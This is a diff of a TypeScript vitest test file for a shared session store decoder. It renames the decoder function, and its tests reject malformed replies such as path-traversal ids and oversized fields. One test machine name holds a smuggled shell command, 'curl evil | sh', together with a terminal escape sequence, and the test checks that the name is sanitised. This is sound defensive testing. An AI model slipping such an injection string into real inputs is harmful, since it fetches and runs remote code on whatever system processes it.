@@ -1,5 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { decodeSharedLogEntry, decodeSharedSessionSnapshot } from '../../src/shared-store/decode-shared-session.ts';
+import {
+  decodeSharedLogEntry,
+  decodeSharedSessionOperationResult,
+} from '../../src/shared-store/decode-shared-session.ts';
 import { listMachinesWithUnreportedRefresh } from '../../src/shared-store/shared-session.ts';
 
 const session = { epoch: 1_790_000_000, sid: 'aabb', gen: 3, kid: '00000001', active_kid: '00000001', record: 'AAAA' };
@@ -12,8 +15,8 @@ const reply = (changes: object = {}) => ({
 describe('the reply of a store', () => {
   it('has numbers or text, and no row for a profile without a session', () => {
     const asText = Object.fromEntries(Object.entries(session).map(([name, value]) => [name, String(value)]));
-    expect(decodeSharedSessionSnapshot(reply(asText))).toEqual(decodeSharedSessionSnapshot(reply()));
-    expect(decodeSharedSessionSnapshot({ ...reply(), session: null })).toMatchObject({ row: undefined });
+    expect(decodeSharedSessionOperationResult(reply(asText))).toEqual(decodeSharedSessionOperationResult(reply()));
+    expect(decodeSharedSessionOperationResult({ ...reply(), session: null })).toMatchObject({ row: undefined });
   });
 
   it.each([
@@ -30,11 +33,11 @@ describe('the reply of a store', () => {
     ['a session id that is a path', reply({ sid: '../../x' })],
     ['a very long key id', reply({ kid: 'a'.repeat(1_000_000) })],
   ])('%s is not a reply', (_name, value) => {
-    expect(decodeSharedSessionSnapshot(value)).toBeUndefined();
+    expect(decodeSharedSessionOperationResult(value)).toBeUndefined();
   });
 
   it('names of machines have only characters that the program uses for names', () => {
-    const row = decodeSharedSessionSnapshot(
+    const row = decodeSharedSessionOperationResult(
       reply({
         holder: 'ci-1`; curl evil | sh`#a\u001b[2J',
         intent_gen: 3,
@@ -50,7 +53,7 @@ describe('the reply of a store', () => {
   });
 
   it('a time that no date can contain is left out, so that no date of it is printed', () => {
-    const row = decodeSharedSessionSnapshot(
+    const row = decodeSharedSessionOperationResult(
       reply({ intent_ms: 8_999_999_999_999_999, lease_ms: '999999999999999' }),
     )?.row;
     expect(row).toMatchObject({ intentMs: undefined, leaseMs: undefined });
